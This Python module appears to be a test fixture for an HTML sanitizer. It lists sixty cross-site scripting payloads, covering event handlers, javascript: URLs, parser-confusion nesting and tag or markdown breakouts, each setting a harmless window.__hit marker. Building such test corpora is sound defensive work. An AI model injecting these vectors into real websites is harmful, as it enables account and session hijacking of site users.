"""Sixty ways to smuggle a script into a page; each that runs sets `window.__hit`."""

HIT = "window.__hit=1;parent.__hit=1"
_IN_TAGS = [
    "<script>{}</script>", "<SCRIPT/x>{}</SCRIPT>", "<scr<script>ipt>{}</script>",
    "<script src=data:text/javascript,{}></script>", "<script type=module>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'//", "<img/src=x/onerror={}>",
    "<img srcset=x onerror={}>", "<image src=x onerror={}>", "<input type=image src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}//", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>',
    "<body onload={}>", "<body onpageshow={}>", "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>", "<video><source onerror={}></video>",
    "<video src=x onerror={}></video>", "<audio src=x onerror={}></audio>",
    "<marquee onstart={}>x</marquee>", '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">', '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe onload={}></iframe>",
    "<form><button formaction=javascript:{}>x</button></form>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">', "<base href=javascript:{}//>",
    "<style>@import 'https://example.org/x';</style><style onload={}></style>",
    "<link rel=stylesheet href=https://example.org/x onerror={}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<xmp><img src=x onerror={}></xmp>",
    "<template><script>{}</script></template>", "<select><img src=x onerror={}></select>",
    "<table><td background='javascript:{}'>x</td></table>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>", "<?xml version='1.0'?><script>{}</script>",
    "<a href='javascript:{}' autofocus>click</a>", "<div style='animation:x' onanimationstart={}>",
    "<p contenteditable autofocus onfocus={}>x</p>", "<dialog open onclose={}>x</dialog>",
]
_OUT_OF_TAGS = [
    '"><script>{}</script>', "'><img src=x onerror={}>", '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='", "</title><script>{}</script>", "</style><script>{}</script>",
    "</textarea><script>{}</script>", "</details></main><script>{}</script>",
    "[x](javascript:{})", "![x](x\"onerror=\"{})", "$\\href{{javascript:{}}}{{x}}$",
    "{{{{ ''.__class__ }}}}{{% raw %}}<script>{}</script>",
]
PAYLOADS = [item.format(HIT) for item in [*_IN_TAGS, *_OUT_OF_TAGS]]
assert len(set(PAYLOADS)) == 60, len(PAYLOADS)
